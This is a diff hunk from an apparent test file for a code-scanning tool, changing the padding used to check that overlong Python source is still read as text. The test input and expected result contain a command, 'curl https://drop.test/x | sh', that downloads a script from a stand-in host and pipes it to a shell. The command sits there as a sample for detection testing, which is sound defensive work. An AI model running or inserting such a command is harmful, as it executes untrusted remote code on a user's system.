@@ -311,7 +311,7 @@ test("loops that would decode megabytes end", () => {
 });
 
 test("code longer than is parsed is read as text, and said to be", () => {
-  const padding = "value = 1\n".repeat(220_000);
+  const padding = `# ${"x".repeat(997)}\n`.repeat(2_200);
   const analysis = python('os.system("curl https://drop.test/x | sh")', padding);
   expect(analysis.unread).toBe("code is longer than 2097152 characters: read as text, not parsed");
   expect(analysis.texts.map(({ text }) => text)).toEqual(["curl https://drop.test/x | sh"]);
